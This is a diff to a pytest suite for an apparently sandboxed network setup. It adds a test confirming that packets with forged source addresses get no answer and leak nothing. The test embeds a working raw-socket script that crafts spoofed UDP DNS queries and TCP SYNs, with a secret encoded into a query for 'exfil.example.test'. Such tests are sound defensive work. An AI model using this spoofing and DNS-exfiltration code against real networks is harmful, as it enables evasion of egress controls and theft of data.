@@ -12,7 +12,7 @@ import uuid
 
 import pytest
 
-from testworld import ADDR, open_path_to, wait_for
+from testworld import ADDR, PYTHON, open_path_to, wait_for
 from test_netsetup import Netsetup
 
 POLICY = """\
@@ -195,3 +195,68 @@ def test_subdomain_of_an_exact_rule_and_axfr(env):
     axfr = world.run(sb.name, ["dig", "+time=2", "+tries=1", f"@{sb.gw}", "example.test",
                                "AXFR"], timeout=10)
     assert "Transfer failed" in axfr.stdout or "NOTIMP" in axfr.stdout, axfr.stdout
+
+
+# A raw IP packet from the sandbox with another host's address as its source:
+# UDP (a DNS query) or TCP (a SYN), to DST:PORT, three times. The payload of
+# the DNS query carries SECRET.
+SPOOF_PY = r"""
+import socket, struct, sys, time
+proto, src, dst, port, secret = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), sys.argv[5]
+v6 = ":" in src
+def csum(b):
+    if len(b) % 2:
+        b += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+    s = (s >> 16) + (s & 0xffff)
+    return ~(s + (s >> 16)) & 0xffff
+fam = socket.AF_INET6 if v6 else socket.AF_INET
+a, b = socket.inet_pton(fam, src), socket.inet_pton(fam, dst)
+if proto == "udp":
+    qn = b"".join(bytes([len(l)]) + l.encode() for l in (secret + ".exfil.example.test").split("."))
+    body = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + qn + b"\0" + struct.pack("!HH", 1, 1)
+    l4 = struct.pack("!HHHH", 40000, port, 8 + len(body), 0) + body
+    num, off = 17, 6
+else:
+    l4 = struct.pack("!HHIIBBHHH", 40000, port, 1, 0, 5 << 4, 0x02, 65535, 0, 0)
+    num, off = 6, 16
+pseudo = a + b + (struct.pack("!I3xB", len(l4), num) if v6 else struct.pack("!xBH", num, len(l4)))
+c = csum(pseudo + l4)
+l4 = l4[:off] + struct.pack("!H", c) + l4[off + 2:]
+if v6:
+    ip = struct.pack("!IHBB", 0x60000000, len(l4), num, 64) + a + b
+else:
+    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(l4), 1, 0, 64, num, 0) + a + b
+    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+s = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
+for _ in range(3):
+    s.sendto(ip + l4, (dst, 0))
+    time.sleep(0.1)
+print("sent")
+"""
+
+
+def spoof(world, sb, *args):
+    r = world.run(sb.name, [PYTHON, "-c", SPOOF_PY, *map(str, args)], timeout=10, nsenter=True)
+    assert r.returncode == 0 and "sent" in r.stdout, r.stderr
+
+
+def test_a_spoofed_source_gets_no_answer_anywhere(env, capture):
+    """P1: a sandbox with a raw socket must not make the proxy answer another
+    host. netsetup drops every packet whose source is not the sandbox's own
+    address, before DNS is DNATed or TCP reaches TPROXY; otherwise the DNS
+    service's NXDOMAIN (which echoes the question) or the SYN-ACK would carry
+    the sandbox's bytes to the address it named."""
+    world, sb, proxy, log, _ = env
+    secret = "spoof" + uuid.uuid4().hex[:12]
+    spoof(world, sb, "udp", ADDR.CAPTURE4, "9.9.9.9", 53, secret)
+    spoof(world, sb, "udp", ADDR.CAPTURE4, sb.gw, 53, secret)
+    spoof(world, sb, "tcp", ADDR.CAPTURE4, ADDR.WWW4, 443, secret)
+    spoof(world, sb, "udp", ADDR.CAPTURE4, ADDR.WWW4, 443, secret)     # QUIC's reject
+    time.sleep(1.0)
+    assert world.capture_records() == []
+    assert world.inet_counters()["to_capture"] == 0
+    assert records(log, qname=f"{secret}.exfil.example.test") == []
+    # the sandbox itself is still answered
+    assert world.dig(sb.name, "www.example.test", "A", server=sb.gw).status == "NOERROR"
+
